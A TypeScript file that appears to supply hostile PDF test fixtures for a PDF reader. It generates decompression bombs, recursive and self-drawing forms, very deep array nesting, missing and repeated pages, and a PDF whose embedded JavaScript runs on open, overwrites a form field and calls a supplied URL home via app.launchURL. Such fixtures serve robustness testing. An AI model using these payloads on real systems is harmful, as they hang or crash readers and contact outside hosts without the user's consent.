import { deflateSync } from "node:zlib";
import { FIRST_MORE, onePage, rawPdf, stream, type RawObject } from "./raw-pdf.ts";

/** Files made to hurt whoever opens them, each with the harm it tries. */

/** No page at all. */
export const withoutPages = () =>
  rawPdf([{ dictionary: "/Type /Catalog /Pages 2 0 R" }, { dictionary: "/Type /Pages /Kids [] /Count 0" }]);

/** Says it has two pages, but the second is not there. */
export const missingPage = () =>
  rawPdf([
    { dictionary: "/Type /Catalog /Pages 2 0 R" },
    { dictionary: "/Type /Pages /Kids [3 0 R 9 0 R] /Count 2" },
    { dictionary: "/Type /Page /Parent 2 0 R /MediaBox [0 0 960 540]" },
  ]);

/** Small, but of very many pages: they are all the same one. */
export function manyPages(count: number): Uint8Array {
  const kids = "3 0 R ".repeat(count);
  return rawPdf([
    { dictionary: "/Type /Catalog /Pages 2 0 R" },
    { dictionary: `/Type /Pages /Kids [${kids}] /Count ${count}` },
    { dictionary: "/Type /Page /Parent 2 0 R /MediaBox [0 0 960 540]" },
  ]);
}

/** One line of hundreds of millions of dashes, from five hundred bytes. */
export const endlessDashes = () => onePage({ content: "[0.00001 0.00001] 0 d 1 w 0 0 m 960 540 l S" });

/** Forms that draw the next one ten times each: ten to the power of `levels` drawings from three kilobytes. */
export function bombInForms(levels = 12): Uint8Array {
  const form = (level: number): RawObject => {
    const last = level === levels;
    const content = last ? "0 0 900 500 re f" : "1 0 0 1 0.1 0 cm /Next Do ".repeat(10);
    const next = last ? "" : `/XObject << /Next ${FIRST_MORE + level} 0 R >>`;
    return stream(content, `/Type /XObject /Subtype /Form /BBox [0 0 960 540] /Resources << ${next} >>`);
  };
  return onePage({
    content: "/First Do",
    resources: `/XObject << /First ${FIRST_MORE} 0 R >>`,
    more: Array.from({ length: levels }, (_, index) => form(index + 1)),
  });
}

/** A form that draws itself. */
export const drawingItself = () =>
  onePage({
    content: "/Self Do",
    resources: `/XObject << /Self ${FIRST_MORE} 0 R >>`,
    more: [
      stream(
        "0.2 0.4 0.8 rg 0 0 480 270 re f /Self Do",
        `/Type /XObject /Subtype /Form /BBox [0 0 960 540] /Resources << /XObject << /Self ${FIRST_MORE} 0 R >> >>`,
      ),
    ],
  });

/** A content stream that is a megabyte in the file and a thousand in memory. */
export const bombInContent = () => onePage({ content: Buffer.alloc(1000 * 1024 * 1024, " ") });

/** A picture of `side` × `side` pixels, next to nothing in the file, that must be unpacked anew each time it is drawn. */
export function bombInImage({ side, times = 1 }: { side: number; times?: number }): Uint8Array {
  const image = `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8`;
  const data = deflateSync(Buffer.alloc(side * 3 * 64));
  return onePage({
    content: Array.from({ length: times }, (_, index) => `q ${960 - index} 0 0 540 0 0 cm /Picture Do Q`).join("\n"),
    resources: `/XObject << /Picture ${FIRST_MORE} 0 R >>`,
    more: [{ dictionary: `${image} /Filter /FlateDecode /Length ${data.length}`, stream: data }],
  });
}

/** Arrays in arrays, deeper than any reader's stack. */
export const deepNesting = () =>
  onePage({ content: `${"[".repeat(2_000_000)} TJ`, page: `/Deep ${"[".repeat(100_000)}${"]".repeat(100_000)}` });

/** Runs a script as soon as it is opened, on the page, and on a field, that would write over the page and call home. */
export function withScripts({ scripts, callHome }: { scripts: boolean; callHome: string }): Uint8Array {
  const code = `app.alert("opened"); this.getField("field").value = "WRITTEN BY SCRIPT"; app.launchURL("${callHome}");`;
  const action = `<< /S /JavaScript /JS (${code.replaceAll(/[()]/g, "\\$&")}) >>`;
  const field = FIRST_MORE;
  return onePage({
    content: "0.2 0.4 0.8 rg 480 270 480 270 re f",
    catalog: `/AcroForm << /Fields [${field} 0 R] /DA (/Helv 24 Tf 0 g) /NeedAppearances true >> ${
      scripts ? `/OpenAction ${action} /Names << /JavaScript << /Names [(start) ${action}] >> >>` : ""
    }`,
    page: `/Annots [${field} 0 R] ${scripts ? `/AA << /O ${action} >>` : ""}`,
    more: [
      {
        dictionary: `/Type /Annot /Subtype /Widget /FT /Tx /T (field) /V (as it was) /Rect [40 40 440 100] /F 4 /DA (/Helv 24 Tf 0 g) /MK << /BC [0 0 0] >> ${
          scripts ? `/AA << /F ${action} /C ${action} /PO ${action} >>` : ""
        }`,
      },
    ],
  });
}
